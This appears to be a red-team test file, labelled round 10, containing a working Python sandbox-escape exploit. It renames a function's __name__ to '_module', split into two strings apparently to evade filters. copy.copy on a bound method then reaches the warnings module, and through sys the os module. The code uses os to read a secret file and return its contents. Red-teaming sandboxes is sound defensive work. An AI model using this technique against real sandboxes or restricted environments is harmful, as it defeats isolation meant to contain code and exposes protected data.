# family: red team, round 10 (bound_method_reduce_writable_name)
# A function's __name__ is writable (a hand-written wraps). A bound method reduces to (getattr, (self,
# func.__name__)), so copy.copy(obj.method) is getattr(obj, <run-time name>). On an object of a class deriving
# warnings.catch_warnings, the name "_module" gives the warnings module; its sys leads to os.
import copy
import warnings


def grab(self):
    return None


grab.__name__ = "_mod" + "ule"


class Watch(warnings.catch_warnings):
    method = grab


def run():
    mod = copy.copy(Watch().method)
    osmod = mod.sys.modules["os"]
    fd = osmod.open("/tmp/r10/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return mod.__name__, osmod.getpid(), text


print(run())
